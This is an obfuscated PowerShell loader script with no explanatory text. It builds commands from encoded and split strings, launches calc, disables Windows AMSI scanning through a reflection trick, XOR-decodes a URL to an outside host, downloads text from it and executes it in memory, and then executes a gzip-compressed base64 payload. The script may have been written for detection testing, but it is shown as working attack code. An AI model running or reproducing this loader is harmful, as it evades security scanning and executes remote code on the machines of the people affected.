$q = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('TgBlAHcALQBPAGIAagBlAGMAdAAgAC0AQwBvAG0ATwBiAGoAZQBjAHQAIABXAFMAYwByAGkAcAB0AC4AUwBoAGUAbABsAA=='))
$o = i`e`x $q
& ($env:ComSpec[4,26,25] -join '') (('{2}{0}{1}' -f 'art-Proc','ess calc','St'))
$t = 'Am' + 'siUt' + 'ils'
[Ref].Assembly.GetType("System.Management.Automation.$t").GetField(('dei'+'laFtinIi'+'sma')[-1..-14] -join '', 'NonPublic,Static').SetValue($null, $true)
$k = 0x2a; $u = ''
foreach ($b in 66,94,94,90,16,5,5,27,19,24,4,26,4,24,4,31,5,75,4,94,82,94) { $u += [char]($b -bxor $k) }
(New-Object Net.WebClient).DownloadString($u) | iex
$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAACAwtOLdF1rUhNLi3JzM8LyM/JTK5UcKosSCwuVtANTs4vSFXwyU9OzPFNTM7IzEsFAPZCgrYuAAAA'))
iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
